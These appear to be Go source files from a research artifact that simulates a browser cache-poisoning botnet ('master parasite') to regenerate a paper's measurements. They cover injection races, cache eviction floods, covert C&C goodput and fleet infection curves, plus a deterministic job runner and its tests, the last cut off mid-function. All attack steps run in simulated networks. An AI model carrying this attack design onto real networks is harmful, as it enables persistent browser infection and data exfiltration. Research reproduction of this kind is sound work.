			fmt.Sprintf("%d/%d", r.InjectionWins, r.Attempts),
			mark(r.Evicted),
			goodput,
			fmt.Sprintf("%d/%d", r.LinkLost, r.LinkDup),
			mark(r.ChurnSurvived))
	}
	fmt.Fprintf(&b, "\ninject: spoofed-response race wins; evict: cross-domain cache eviction;\n")
	fmt.Fprintf(&b, "goodput: C&C downstream in virtual time; lost/dup: link faults during the\n")
	fmt.Fprintf(&b, "C&C transfer; churn: command executed while the victim flaps on/off WiFi\n")
	return &artifact.Result{Text: b.String(), Dataset: ConditionsData(rows)}, nil
}

// conditionsRow measures every cell of one link profile's row. The
// cells run sequentially inside the job; each builds its own scenario.
func conditionsRow(lp netsim.LinkProfile, attempts, payload int) (ConditionsRow, error) {
	row := ConditionsRow{
		Profile:      lp.Name,
		LossPct:      lp.Loss * 100,
		JitterMs:     float64(lp.Jitter) / float64(time.Millisecond),
		BandwidthKBs: lp.Bandwidth / 1024,
		Attempts:     attempts,
	}
	for i := 0; i < attempts; i++ {
		seed := runner.Seed(conditionsSeed, fmt.Sprintf("inject-%s-%d", lp.Name, i))
		ok, err := conditionsInjection(lp, seed)
		if err != nil {
			return row, fmt.Errorf("conditions %s inject #%d: %w", lp.Name, i, err)
		}
		if ok {
			row.InjectionWins++
		}
	}
	evicted, err := conditionsEviction(lp, runner.Seed(conditionsSeed, "evict-"+lp.Name))
	if err != nil {
		return row, fmt.Errorf("conditions %s evict: %w", lp.Name, err)
	}
	row.Evicted = evicted
	gp, err := cncGoodput(lp, payload, runner.Seed(conditionsSeed, "goodput-"+lp.Name))
	if err != nil {
		return row, fmt.Errorf("conditions %s goodput: %w", lp.Name, err)
	}
	row.GoodputKBs = gp.KBs
	row.LinkLost = gp.Lost
	row.LinkDup = gp.Duplicated
	churn, err := conditionsChurn(lp, runner.Seed(conditionsSeed, "churn-"+lp.Name))
	if err != nil {
		return row, fmt.Errorf("conditions %s churn: %w", lp.Name, err)
	}
	row.ChurnSurvived = churn
	return row, nil
}

// conditionsInjection runs one spoofed-response injection race over the
// faulty link (the Table II setup with the link profile installed). A
// failed page load is a lost race, not an error: on a harsh link the
// victim's fetch itself may die, and that is the measurement.
func conditionsInjection(lp netsim.LinkProfile, seed int64) (bool, error) {
	s, err := core.NewScenario(core.Config{Seed: seed, Link: &lp, Retransmit: true})
	if err != nil {
		return false, err
	}
	s.AddPage("somesite.com", "/", `<html><body><script src="/my.js"></script></body></html>`, nil)
	s.AddPage("somesite.com", "/my.js", "function site(){}",
		map[string]string{"Cache-Control": "max-age=600", "Content-Type": "application/javascript"})
	cfg := parasite.NewConfig("cond", "bot-cond", core.MasterHost)
	cfg.Propagate = false
	cfg.Anchor = false
	s.Registry.Add(cfg)
	s.Master.AddTarget(attacker.Target{
		Name: "somesite.com/my.js", Kind: attacker.KindJS,
		ParasitePayload: "cond", Original: []byte("function original(){}"),
	})
	page, err := s.Visit("somesite.com", "/")
	if err != nil {
		return false, nil // the link ate the page load: race lost
	}
	for _, sc := range page.Scripts {
		if script.Infected(sc.Content) {
			return true, nil
		}
	}
	return false, nil
}

// conditionsEviction runs the Table I eviction flood (scaled Chrome)
// over the faulty link and reports whether the cross-domain eviction
// still lands.
func conditionsEviction(lp netsim.LinkProfile, seed int64) (bool, error) {
	chrome, err := browser.ProfileByName("Chrome")
	if err != nil {
		return false, err
	}
	scaled := scaleProfile(chrome)
	s, err := core.NewScenario(core.Config{ProfileOverride: &scaled, Seed: seed, Link: &lp, Retransmit: true})
	if err != nil {
		return false, err
	}
	for _, d := range []string{"popular.com", "other.com"} {
		s.AddPage(d, "/", `<html><body><script src="/app.js"></script></body></html>`, nil)
		s.AddPage(d, "/app.js", "function "+strings.ReplaceAll(d, ".", "_")+"(){}",
			map[string]string{"Cache-Control": "max-age=86400", "Content-Type": "application/javascript"})
	}
	s.AddPage("any.com", "/", `<html><body>benign</body></html>`, map[string]string{"Cache-Control": "no-store"})
	if _, err := s.Visit("popular.com", "/"); err != nil {
		return false, nil // prime died on the wire: no eviction
	}
	if _, err := s.Visit("other.com", "/"); err != nil {
		return false, nil
	}
	junkSize := 4096
	junkCount := int(scaled.CacheSize)*3/2/junkSize + 1
	s.Master.EnableEviction(core.JunkHost, junkCount, junkSize, "any.com")
	if _, err := s.Visit("any.com", "/"); err != nil {
		return false, nil // flood died mid-way
	}
	return !s.Victim.Cache().Contains("popular.com", "popular.com/app.js") &&
		!s.Victim.Cache().Contains("other.com", "other.com/app.js"), nil
}

// conditionsChurn infects the victim, moves it home, queues a command,
// and then flaps the victim's interface on and off while the parasite
// polls. Survival means the full C&C round trip — command decoded and
// executed downstream, ping exfiltrated upstream — despite the outages.
func conditionsChurn(lp netsim.LinkProfile, seed int64) (bool, error) {
	s, err := core.NewScenario(core.Config{Seed: seed, Link: &lp, Retransmit: true})
	if err != nil {
		return false, err
	}
	s.AddPage("somesite.com", "/", `<html><body><script src="/my.js"></script></body></html>`, nil)
	s.AddPage("somesite.com", "/my.js", "function site(){}",
		map[string]string{"Cache-Control": "max-age=600", "Content-Type": "application/javascript"})
	cfg := parasite.NewConfig("cond", "bot-cond", core.MasterHost)
	cfg.Propagate = false
	cfg.Modules["ping"] = func(_ script.Env, _ string, exfil parasite.Exfil) error {
		exfil("ping", []byte("alive"))
		return nil
	}
	s.Registry.Add(cfg)
	s.Master.AddTarget(attacker.Target{
		Name: "somesite.com/my.js", Kind: attacker.KindJS,
		ParasitePayload: "cond", Original: []byte("function original(){}"),
	})
	if _, err := s.Visit("somesite.com", "/"); err != nil {
		return false, nil // never infected: nothing to persist
	}
	s.LeaveAttackerNetwork()
	s.CNC.QueueCommand("bot-cond", []byte("ping|"))
	// Five outages of 8ms every 40ms, starting 1ms into the visit: short
	// enough for the RTO backoff to ride out, frequent enough that some
	// poll exchange is mid-flight when the interface goes dark.
	s.ScheduleChurn(s.Victim, time.Millisecond, 40*time.Millisecond, 8*time.Millisecond, 5)
	if _, err := s.Visit("somesite.com", "/"); err != nil {
		return false, nil // churn killed the carrier page load
	}
	_, ok := s.CNC.Upload("bot-cond", "ping")
	return ok, nil
}

// goodputResult is one covert-channel transfer measurement.
type goodputResult struct {
	KBs        float64 // virtual-time downstream rate; 0 when the transfer failed
	Lost       int     // frames the link dropped during the transfer
	Duplicated int     // frames the link delivered twice
}

// cncGoodput runs a full C&C downstream exchange — meta probe plus
// every sprite batch, the exact bot protocol — over a dedicated faulty
// link with retransmitting stacks, and measures goodput against the
// virtual clock. The transfer either delivers the payload bit-exact or
// reports a zero rate; a corrupted decode is an error, because
// retransmission must never surface damaged bytes.
func cncGoodput(lp netsim.LinkProfile, payload int, seed int64) (goodputResult, error) {
	const (
		serverAddr netsim.Addr = "cnc-master"
		clientAddr netsim.Addr = "cnc-bot"
		botID                  = "bot-goodput"
		batchSize              = 64
	)
	net := netsim.New()
	seg := net.MustSegment("uplink", 200*time.Microsecond)
	seg.SetLinkProfile(lp)
	srvIfc := seg.MustAttach(serverAddr, 2*time.Millisecond, nil)
	cliIfc := seg.MustAttach(clientAddr, 300*time.Microsecond, nil)
	srvStack := tcpsim.NewStack(net, srvIfc, tcpsim.WithSeed(seed+1), tcpsim.WithRetransmit())
	cliStack := tcpsim.NewStack(net, cliIfc, tcpsim.WithSeed(seed+2), tcpsim.WithRetransmit())

	master := cnc.NewMasterServer()
	if _, err := httpsim.NewServer(srvStack, 80, attacker.CNCAdapter(master)); err != nil {
		return goodputResult{}, err
	}
	msg := make([]byte, payload)
	for i := range msg {
		msg[i] = byte(seed) + byte(i*7)
	}
	cmdID := master.QueueCommand(botID, msg)

	client := httpsim.NewClient(cliStack)
	get := func(path string, cb func(*httpsim.Response, error)) {
		client.Get(serverAddr, 80, core.MasterHost, path, cb)
	}
	var (
		dims     []cnc.Dim
		count    int
		done     time.Duration
		fetchErr error
	)
	var fetchBatch func(from int)
	fetchBatch = func(from int) {
		n := batchSize
		if from+n > count {
			n = count - from
		}
		get(fmt.Sprintf("/batch/%s/%d/%d/%d.svg", botID, cmdID, from, n), func(resp *httpsim.Response, err error) {
			if err != nil {
				fetchErr = err
				return
			}
			got, err := cnc.ParseBatchSVG(dims, resp.Body)
			if err != nil {
				fetchErr = err
				return
			}
			dims = got
			if from+n < count {
				fetchBatch(from + n)
				return
			}
			done = net.Now()
		})
	}
	get(fmt.Sprintf("/meta/%s.svg", botID), func(resp *httpsim.Response, err error) {
		if err != nil {
			fetchErr = err
			return
		}
		meta, err := cnc.ParseSVG(resp.Body)
		if err != nil {
			fetchErr = err
			return
		}
		count = int(meta.H)
		fetchBatch(0)
	})
	net.Run(0)

	res := goodputResult{Lost: seg.Lost(), Duplicated: seg.Duplicated()}
	if fetchErr != nil || done == 0 {
		return res, nil // the link defeated the transfer: zero goodput
	}
	data, err := cnc.DecodeDims(dims)
	if err != nil {
		return res, fmt.Errorf("cnc goodput decode: %w", err)
	}
	if !bytes.Equal(data, msg) {
		return res, errors.New("cnc goodput: decoded payload differs — retransmission let corruption through")
	}
	res.KBs = float64(payload) / done.Seconds() / 1024
	return res, nil
}

// SoakReport summarises one long-horizon soak run.
type SoakReport struct {
	Rounds         int  `json:"rounds"`
	Events         int  `json:"events"`
	BytesEchoed    int  `json:"bytes_echoed"`
	FramesAcquired int  `json:"frames_acquired"`
	FramesReleased int  `json:"frames_released"`
	WrapCrossed    bool `json:"wrap_crossed"`
}

// soakRoundSize is the per-round echo payload of the soak.
const soakRoundSize = 256

// RunSoak is the long-horizon stability harness: a request/echo
// ping-pong over a lossy, duplicating, jittery link with retransmitting
// stacks whose ISNs start just below 2^32, so the stream crosses the
// sequence wrap within the first few rounds and every later round runs
// in wrapped sequence space. It returns the event count (the caller
// asserts the horizon) and the frame-pool counters (the caller asserts
// the pool drained — a leak grows unboundedly over a million events).
func RunSoak(rounds int, seed int64) (SoakReport, error) {
	lp := netsim.LinkProfile{
		Name: "soak", Loss: 0.05, Duplicate: 0.02,
		Jitter: time.Millisecond, Seed: uint64(seed),
	}
	net := netsim.New()
	seg := net.MustSegment("soak-link", 500*time.Microsecond)
	seg.SetLinkProfile(lp)
	srvIfc := seg.MustAttach("soak-server", time.Millisecond, nil)
	cliIfc := seg.MustAttach("soak-client", 200*time.Microsecond, nil)
	opts := func(s int64) []tcpsim.StackOption {
		return []tcpsim.StackOption{
			tcpsim.WithSeed(s), tcpsim.WithRetransmit(),
			tcpsim.WithISN(0xFFFFF000), tcpsim.WithMSS(512),
		}
	}
	server := tcpsim.NewStack(net, srvIfc, opts(seed+1)...)
	client := tcpsim.NewStack(net, cliIfc, opts(seed+2)...)

	if err := server.Listen(80, func(c *tcpsim.Conn) {
		c.OnData(func(b []byte) {
			if _, err := c.Write(b); err != nil {
				// The conn died past the retry cap; the client side stalls
				// and the report's BytesEchoed shortfall surfaces it.
				return
			}
		})
	}); err != nil {
		return SoakReport{}, err
	}
	chunk := make([]byte, soakRoundSize)
	for i := range chunk {
		chunk[i] = byte(i)
	}
	var echoed, sent int
	conn, err := client.Dial("soak-server", 80, func(c *tcpsim.Conn) {
		sent++
		if _, err := c.Write(chunk); err != nil {
			sent--
		}
	})
	if err != nil {
		return SoakReport{}, err
	}
	conn.OnData(func(b []byte) {
		echoed += len(b)
		for echoed >= sent*soakRoundSize && sent < rounds {
			sent++
			if _, err := conn.Write(chunk); err != nil {
				sent--
				return
			}
		}
	})
	events := net.Run(0)
	acquired, released := net.FrameStats()
	return SoakReport{
		Rounds:         sent,
		Events:         events,
		BytesEchoed:    echoed,
		FramesAcquired: acquired,
		FramesReleased: released,
		WrapCrossed:    conn.SndNxt() < 0x80000000,
	}, nil
}
