package experiments

import (
	"fmt"
	"strconv"
	"strings"
	"time"

	"masterparasite/internal/artifact"
	"masterparasite/internal/core"
	"masterparasite/internal/runner"
)

// fleetSeed is the base seed of the fleet artifacts; every fleet run
// derives its topology seed from it via runner.Seed, so both artifacts
// are pure functions of (lans, bots).
const fleetSeed = 211

// fleetCurveBucket is the infection-curve sampling interval (virtual
// time). Coarse enough to keep the table readable at any fleet size.
const fleetCurveBucket = 5 * time.Millisecond

// fleetWorkers resolves the shard worker count for a fleet run from
// the artifact environment: the frontend's -parallel flag drives both
// the scenario-fleet runner and the netsim shard pool. Results are
// byte-identical at any value — workers buy wall-clock time only.
func fleetWorkers(env artifact.Env) int { return env.Runner.Workers() }

// InfectionCurveRow is one sampling instant of the fleet infection
// curve: how much of the population had fallen by virtual time T.
type InfectionCurveRow struct {
	TimeMs   float64 `json:"time_ms"`
	Infected int     `json:"infected"`
	Pct      float64 `json:"pct"`
}

// InfectionCurveData is the "fleet/infection-curve" artifact dataset.
type InfectionCurveData struct {
	LANs       int                 `json:"lans"`
	BotsPerLAN int                 `json:"bots_per_lan"`
	Bots       int                 `json:"bots"`
	Infected   int                 `json:"infected"`
	Registered int                 `json:"registered"`
	Commanded  int                 `json:"commanded"`
	Events     int                 `json:"events"`
	Curve      []InfectionCurveRow `json:"curve"`
}

// Table flattens the curve for the CSV and Markdown renderers.
func (d InfectionCurveData) Table() (header []string, rows [][]string) {
	header = []string{"time_ms", "infected", "pct"}
	for _, r := range d.Curve {
		rows = append(rows, []string{
			strconv.FormatFloat(r.TimeMs, 'f', 1, 64),
			fint(r.Infected),
			strconv.FormatFloat(r.Pct, 'f', 1, 64),
		})
	}
	return header, rows
}

// InfectionCurve regenerates "fleet/infection-curve": a parameterized
// N-LANs × M-bots fleet on the sharded fabric, infection seeded per LAN
// and spread by seeded gossip, sampled as infected population vs
// virtual time. One fabric run; the shard pool width follows the
// frontend's -parallel flag and never changes a byte of the output.
func InfectionCurve(env artifact.Env) (*artifact.Result, error) {
	lans, bots := env.Param("lans"), env.Param("bots")
	fleet, err := core.NewFleet(core.FleetConfig{
		LANs: lans, BotsPerLAN: bots,
		Seed: runner.Seed(fleetSeed, "infection-curve"),
	})
	if err != nil {
		return nil, err
	}
	res, err := fleet.Run(fleetWorkers(env))
	if err != nil {
		return nil, err
	}
	data := InfectionCurveData{
		LANs: lans, BotsPerLAN: bots, Bots: res.Bots,
		Infected: res.Infected, Registered: res.Registered,
		Commanded: res.Commanded, Events: res.Events,
	}
	// Sample the infection log on a fixed virtual-time grid. The log is
	// (time, LAN, bot)-ordered, so one forward scan fills every bucket.
	var last time.Duration
	if n := len(res.Infections); n > 0 {
		last = res.Infections[n-1].At
	}
	i := 0
	for t := time.Duration(0); ; t += fleetCurveBucket {
		for i < len(res.Infections) && res.Infections[i].At <= t {
			i++
		}
		data.Curve = append(data.Curve, InfectionCurveRow{
			TimeMs:   float64(t) / float64(time.Millisecond),
			Infected: i,
			Pct:      100 * float64(i) / float64(res.Bots),
		})
		if t >= last {
			break
		}
	}

	var b strings.Builder
	fmt.Fprintf(&b, "fleet infection curve (%d LANs × %d bots = %d, gossip fanout 3, lookahead %v)\n\n",
		lans, bots, res.Bots, fleet.Fabric().Lookahead())
	fmt.Fprintf(&b, "%8s %9s %7s  %s\n", "t(ms)", "infected", "pct", "")
	for _, r := range data.Curve {
		bar := strings.Repeat("#", int(r.Pct/100*40+0.5))
		fmt.Fprintf(&b, "%8.1f %9d %6.1f%%  %s\n", r.TimeMs, r.Infected, r.Pct, bar)
	}
	fmt.Fprintf(&b, "\ncoverage: %d/%d bots infected (%.1f%%); %d registered with the C&C, %d commanded\n",
		res.Infected, res.Bots, 100*float64(res.Infected)/float64(res.Bots), res.Registered, res.Commanded)
	fmt.Fprintf(&b, "%d events across %d shards; identical at any -parallel\n", res.Events, lans+1)
	return &artifact.Result{Text: b.String(), Dataset: data}, nil
}

// FanoutRow is one fleet size's C&C fan-out measurement.
type FanoutRow struct {
	LANs       int     `json:"lans"`
	Bots       int     `json:"bots"`
	Infected   int     `json:"infected"`
	Commanded  int     `json:"commanded"`
	GoodputKBs float64 `json:"goodput_kbs"`
	P50Ms      float64 `json:"p50_ms"`
	P90Ms      float64 `json:"p90_ms"`
	P99Ms      float64 `json:"p99_ms"`
	MaxMs      float64 `json:"max_ms"`
	Events     int     `json:"events"`
}

// FanoutData is the "fleet/cnc-fanout" artifact dataset.
type FanoutData []FanoutRow

// Table flattens the sweep for the CSV and Markdown renderers.
func (d FanoutData) Table() (header []string, rows [][]string) {
	header = []string{"lans", "bots", "infected", "commanded",
		"goodput_kbs", "p50_ms", "p90_ms", "p99_ms", "max_ms", "events"}
	for _, r := range d {
		rows = append(rows, []string{
			fint(r.LANs), fint(r.Bots), fint(r.Infected), fint(r.Commanded),
			strconv.FormatFloat(r.GoodputKBs, 'f', 1, 64),
			strconv.FormatFloat(r.P50Ms, 'f', 2, 64),
			strconv.FormatFloat(r.P90Ms, 'f', 2, 64),
			strconv.FormatFloat(r.P99Ms, 'f', 2, 64),
			strconv.FormatFloat(r.MaxMs, 'f', 2, 64),
			fint(r.Events),
		})
	}
	return header, rows
}

// CNCFanout regenerates "fleet/cnc-fanout": the C&C master's fan-out
// goodput and per-bot command latency percentiles as the fleet grows —
// quarter, half, and full size of the configured lans×bots topology.
// The backbone shard serialises every registration and command, so the
// sweep shows how master-side load scales while the LAN shards spread
// across the worker pool. Fleets run one after another (each already
// parallelises internally across its shards).
func CNCFanout(env artifact.Env) (*artifact.Result, error) {
	lans, bots := env.Param("lans"), env.Param("bots")
	sizes := []int{lans / 4, lans / 2, lans}
	var rows FanoutData
	seen := make(map[int]bool)
	for _, n := range sizes {
		if n < 1 {
			n = 1
		}
		if seen[n] {
			continue
		}
		seen[n] = true
		fleet, err := core.NewFleet(core.FleetConfig{
			LANs: n, BotsPerLAN: bots,
			Seed: runner.Seed(fleetSeed, fmt.Sprintf("cnc-fanout-%d", n)),
		})
		if err != nil {
			return nil, err
		}
		res, err := fleet.Run(fleetWorkers(env))
		if err != nil {
			return nil, err
		}
		p50, p90, p99, max := res.LatencyPercentiles()
		ms := func(d time.Duration) float64 { return float64(d) / float64(time.Millisecond) }
		rows = append(rows, FanoutRow{
			LANs: n, Bots: res.Bots, Infected: res.Infected, Commanded: res.Commanded,
			GoodputKBs: res.Goodput(),
			P50Ms:      ms(p50), P90Ms: ms(p90), P99Ms: ms(p99), MaxMs: ms(max),
			Events: res.Events,
		})
	}

	var b strings.Builder
	fmt.Fprintf(&b, "C&C fan-out vs fleet size (up to %d LANs × %d bots; one backbone master shard)\n\n", lans, bots)
	fmt.Fprintf(&b, "%6s %8s %9s %10s %12s %8s %8s %8s %8s %10s\n",
		"lans", "bots", "infected", "commanded", "goodput", "p50", "p90", "p99", "max", "events")
	for _, r := range rows {
		fmt.Fprintf(&b, "%6d %8d %9d %10d %9.1fKB/s %6.2fms %6.2fms %6.2fms %6.2fms %10d\n",
			r.LANs, r.Bots, r.Infected, r.Commanded, r.GoodputKBs,
			r.P50Ms, r.P90Ms, r.P99Ms, r.MaxMs, r.Events)
	}
	fmt.Fprintf(&b, "\ngoodput: command payload over virtual time to the last delivery;\n")
	fmt.Fprintf(&b, "latency: per-bot REG→first-command round trip across the shard boundary\n")
	return &artifact.Result{Text: b.String(), Dataset: rows}, nil
}
