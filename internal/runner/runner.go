// Package runner is the concurrent scenario-fleet engine: it executes
// batches of independent jobs — typically one core.Scenario kill-chain
// run each — across a fixed worker pool while keeping the batch result
// bit-for-bit deterministic. Three rules make parallelism invisible to
// callers:
//
//  1. Jobs never share mutable state. Each job assembles its own
//     scenario, seeded via Seed(base, id) so its randomness depends
//     only on its identity, never on scheduling.
//  2. Results are assembled in submission order, not completion order.
//  3. A failed batch reports the lowest-index error, not whichever
//     worker happened to lose the race; every job still runs, exactly
//     as in the sequential case.
//
// Consequently the output of a batch run with one worker is identical
// to the same batch run with any other worker count, which is what
// lets the experiments regenerate the paper's tables and figures in
// parallel without perturbing a single byte.
package runner

import (
	"encoding/binary"
	"encoding/json"
	"fmt"
	"hash/fnv"
	"runtime"
	"sync"
	"sync/atomic"
)

// Runner executes batches of independent jobs on a worker pool of a
// fixed size. The zero value is not usable; construct with New. A
// Runner is stateless between batches and safe for concurrent use,
// but jobs must not submit nested batches to the runner that is
// executing them — nest by constructing a scoped sub-runner instead.
type Runner struct {
	workers int
}

// New returns a Runner with the given parallelism. n <= 0 selects
// GOMAXPROCS, n == 1 is strictly sequential (no goroutines at all).
func New(n int) *Runner {
	if n <= 0 {
		n = runtime.GOMAXPROCS(0)
	}
	return &Runner{workers: n}
}

// Workers reports the pool size.
func (r *Runner) Workers() int { return r.workers }

// Job is one self-contained unit of work with a stable identity. The
// ID names the job in errors and seeds its randomness (see Seed); Fn
// must not touch state shared with any other job in the batch.
type Job struct {
	ID string
	Fn func() (any, error)
}

// Run executes a batch of jobs and returns their values in submission
// order. All jobs run even when some fail; the returned error is the
// lowest-index failure, annotated with that job's ID.
func (r *Runner) Run(jobs []Job) ([]any, error) {
	return Map(r, jobs, func(_ int, j Job) (any, error) {
		v, err := j.Fn()
		if err != nil {
			return nil, fmt.Errorf("job %s: %w", j.ID, err)
		}
		return v, nil
	})
}

// Map applies fn to every item on the runner's pool and returns the
// results in item order. fn receives the item's index and must be
// safe to call concurrently with itself on distinct items. All items
// are processed even when some fail — mirroring the sequential path —
// and the returned error is the one from the lowest-index item.
func Map[T, R any](r *Runner, items []T, fn func(i int, item T) (R, error)) ([]R, error) {
	out := make([]R, len(items))
	errs := make([]error, len(items))

	workers := r.workers
	if workers > len(items) {
		workers = len(items)
	}
	if workers <= 1 {
		for i := range items {
			out[i], errs[i] = fn(i, items[i])
		}
	} else {
		var next atomic.Int64
		var wg sync.WaitGroup
		wg.Add(workers)
		for w := 0; w < workers; w++ {
			go func() {
				defer wg.Done()
				for {
					i := int(next.Add(1)) - 1
					if i >= len(items) {
						return
					}
					out[i], errs[i] = fn(i, items[i])
				}
			}()
		}
		wg.Wait()
	}
	for _, err := range errs {
		if err != nil {
			return out, err
		}
	}
	return out, nil
}

// minChunk is the smallest span Chunks will produce: below this the
// per-job scheduling overhead outweighs the work in the span.
const minChunk = 16

// Chunks splits n items into balanced contiguous [lo, hi) ranges sized
// for a pool of the given width. It aims for ~4 spans per worker so a
// straggling span cannot serialise the batch tail, but never cuts spans
// smaller than minChunk items. With one worker (or few items) it
// returns a single full range, so sequential callers pay no overhead.
func Chunks(n, workers int) [][2]int {
	if n <= 0 {
		return nil
	}
	chunks := 1
	if workers > 1 {
		chunks = workers * 4
		if maxChunks := n / minChunk; chunks > maxChunks {
			chunks = maxChunks
		}
		if chunks < 1 {
			chunks = 1
		}
	}
	out := make([][2]int, 0, chunks)
	for i := 0; i < chunks; i++ {
		lo, hi := i*n/chunks, (i+1)*n/chunks
		if lo < hi {
			out = append(out, [2]int{lo, hi})
		}
	}
	return out
}

// Checkpoint is the durable chunk-resume sink ResumeMap consults: an
// orchestrator (labd's per-run checkpoint file) implements it so a
// batch interrupted by a crash restarts at the last committed chunk
// instead of from zero. Lookup and Commit may be called concurrently
// from distinct workers; implementations serialise internally.
type Checkpoint interface {
	// Lookup returns the committed payload for key, if any.
	Lookup(key string) ([]byte, bool)
	// Commit durably records the payload for key. A Commit error aborts
	// the batch — a checkpoint that cannot persist must not pretend to.
	Commit(key string, payload []byte) error
}

// ChunkKey names one [lo, hi) span of an n-item batch in a checkpoint.
// The batch size is part of the key, so a checkpoint taken against a
// different chunk layout simply misses and the span recomputes — stale
// layouts can never corrupt a resumed run.
func ChunkKey(n, lo, hi int) string {
	return fmt.Sprintf("chunk:v1:%d:%d-%d", n, lo, hi)
}

// ResumeMap applies fn to every Chunks(n, workers) span on the pool
// and returns the per-span results in span order — Map's determinism
// contract at chunk granularity — with optional crash resume: when
// ckpt is non-nil, spans whose results a previous attempt committed
// are decoded from the checkpoint and skipped, and every freshly
// computed span is committed as its worker finishes it.
//
// Resume correctness needs two properties from the caller: fn must be
// a pure function of [lo, hi) (rule 1 of the fleet engine — no state
// shared across spans), and R must round-trip losslessly through
// encoding/json, because a decoded result replaces recomputation
// byte-for-byte in the fold. Integer/string datasets qualify; lossy
// float round-trips do not. An undecodable committed payload is
// treated as absent (the span recomputes), never as an error.
func ResumeMap[R any](r *Runner, n int, ckpt Checkpoint, fn func(lo, hi int) (R, error)) ([]R, error) {
	spans := Chunks(n, r.workers)
	out := make([]R, len(spans))
	pending := make([]int, 0, len(spans))
	for i, sp := range spans {
		if ckpt != nil {
			if b, ok := ckpt.Lookup(ChunkKey(n, sp[0], sp[1])); ok {
				if err := json.Unmarshal(b, &out[i]); err == nil {
					continue
				}
				out[i] = *new(R)
			}
		}
		pending = append(pending, i)
	}
	_, err := Map(r, pending, func(_ int, i int) (struct{}, error) {
		sp := spans[i]
		v, err := fn(sp[0], sp[1])
		if err != nil {
			return struct{}{}, err
		}
		out[i] = v
		if ckpt != nil {
			b, err := json.Marshal(v)
			if err != nil {
				return struct{}{}, fmt.Errorf("chunk %d-%d: encode checkpoint: %w", sp[0], sp[1], err)
			}
			if err := ckpt.Commit(ChunkKey(n, sp[0], sp[1]), b); err != nil {
				return struct{}{}, fmt.Errorf("chunk %d-%d: commit checkpoint: %w", sp[0], sp[1], err)
			}
		}
		return struct{}{}, nil
	})
	return out, err
}

// Seed derives a per-job RNG seed from a batch base seed and the
// job's identity. The derivation is pure (FNV-1a over base and id),
// so a job's seed depends only on what the job is — never on worker
// count, scheduling, or the presence of other jobs — and is always
// non-zero, because scenario configs treat seed 0 as "default".
func Seed(base int64, id string) int64 {
	h := fnv.New64a()
	var b [8]byte
	binary.LittleEndian.PutUint64(b[:], uint64(base))
	h.Write(b[:])
	h.Write([]byte(id))
	s := int64(h.Sum64())
	if s == 0 {
		return 1
	}
	return s
}
