package runner

import (
	"errors"
	"fmt"
	"math/rand"
	"strings"
	"sync"
	"testing"
	"time"
)

// work simulates one deterministic scenario job: draw from an RNG
// seeded only by the job's identity and fold the draws together.
func work(base int64, id string) uint64 {
	rng := rand.New(rand.NewSource(Seed(base, id)))
	var acc uint64
	for i := 0; i < 100; i++ {
		acc = acc*31 + uint64(rng.Int63())
	}
	return acc
}

func TestMapPreservesOrderAcrossWorkerCounts(t *testing.T) {
	items := make([]string, 64)
	for i := range items {
		items[i] = fmt.Sprintf("job-%d", i)
	}
	run := func(workers int) []uint64 {
		out, err := Map(New(workers), items, func(_ int, id string) (uint64, error) {
			return work(42, id), nil
		})
		if err != nil {
			t.Fatal(err)
		}
		return out
	}
	want := run(1)
	for _, n := range []int{2, 4, 8, 16} {
		got := run(n)
		for i := range want {
			if got[i] != want[i] {
				t.Fatalf("workers=%d: item %d = %d, want %d", n, i, got[i], want[i])
			}
		}
	}
}

func TestMapRunsJobsConcurrently(t *testing.T) {
	// All four jobs block until every one of them has started; this
	// can only complete if the pool really runs four jobs at once.
	const n = 4
	var started sync.WaitGroup
	started.Add(n)
	allStarted := make(chan struct{})
	go func() {
		started.Wait()
		close(allStarted)
	}()
	_, err := Map(New(n), make([]struct{}, n), func(i int, _ struct{}) (int, error) {
		started.Done()
		select {
		case <-allStarted:
			return i, nil
		case <-time.After(10 * time.Second):
			return 0, fmt.Errorf("job %d: pool never reached %d concurrent jobs", i, n)
		}
	})
	if err != nil {
		t.Fatal(err)
	}
}

func TestMapReportsLowestIndexError(t *testing.T) {
	boom3 := errors.New("job 3 failed")
	boom9 := errors.New("job 9 failed")
	for _, workers := range []int{1, 8} {
		_, err := Map(New(workers), make([]int, 16), func(i int, _ int) (int, error) {
			switch i {
			case 3:
				return 0, boom3
			case 9:
				return 0, boom9
			}
			return i, nil
		})
		if !errors.Is(err, boom3) {
			t.Fatalf("workers=%d: err = %v, want lowest-index %v", workers, err, boom3)
		}
	}
}

func TestMapRunsEveryJobDespiteFailures(t *testing.T) {
	var ran atomic32
	_, err := Map(New(4), make([]int, 32), func(i int, _ int) (int, error) {
		ran.inc()
		if i%5 == 0 {
			return 0, errors.New("fail")
		}
		return i, nil
	})
	if err == nil {
		t.Fatal("expected an error")
	}
	if got := ran.load(); got != 32 {
		t.Fatalf("ran %d of 32 jobs", got)
	}
}

func TestRunAnnotatesErrorWithJobID(t *testing.T) {
	jobs := []Job{
		{ID: "ok", Fn: func() (any, error) { return 1, nil }},
		{ID: "broken", Fn: func() (any, error) { return nil, errors.New("nope") }},
	}
	out, err := New(2).Run(jobs)
	if err == nil || err.Error() != "job broken: nope" {
		t.Fatalf("err = %v", err)
	}
	if out[0] != 1 {
		t.Fatalf("out[0] = %v", out[0])
	}
}

func TestSeedStableAndDistinct(t *testing.T) {
	if Seed(7, "table1/Chrome") != Seed(7, "table1/Chrome") {
		t.Fatal("seed not stable")
	}
	seen := map[int64]string{}
	for _, base := range []int64{0, 1, 42} {
		for i := 0; i < 100; i++ {
			id := fmt.Sprintf("job-%d", i)
			s := Seed(base, id)
			if s == 0 {
				t.Fatalf("zero seed for base=%d id=%s", base, id)
			}
			key := fmt.Sprintf("%d/%s", base, id)
			if prev, dup := seen[s]; dup {
				t.Fatalf("seed collision: %s and %s", prev, key)
			}
			seen[s] = key
		}
	}
}

func TestNewDefaultsAndSmallBatches(t *testing.T) {
	if New(0).Workers() < 1 {
		t.Fatal("default pool empty")
	}
	if got := New(-3).Workers(); got < 1 {
		t.Fatalf("negative parallelism gave %d workers", got)
	}
	// More workers than items must not deadlock or drop results.
	out, err := Map(New(16), []int{10, 20}, func(_ int, v int) (int, error) { return v * 2, nil })
	if err != nil || len(out) != 2 || out[0] != 20 || out[1] != 40 {
		t.Fatalf("out = %v, err = %v", out, err)
	}
	// Empty batch.
	if out, err := Map(New(4), nil, func(_ int, v int) (int, error) { return v, nil }); err != nil || len(out) != 0 {
		t.Fatalf("empty batch: out = %v, err = %v", out, err)
	}
}

// TestMapStress hammers the pool under the race detector: many small
// batches with shared-nothing jobs, run back to back from multiple
// goroutines (a Runner is safe for concurrent use across batches).
func TestMapStress(t *testing.T) {
	r := New(8)
	var wg sync.WaitGroup
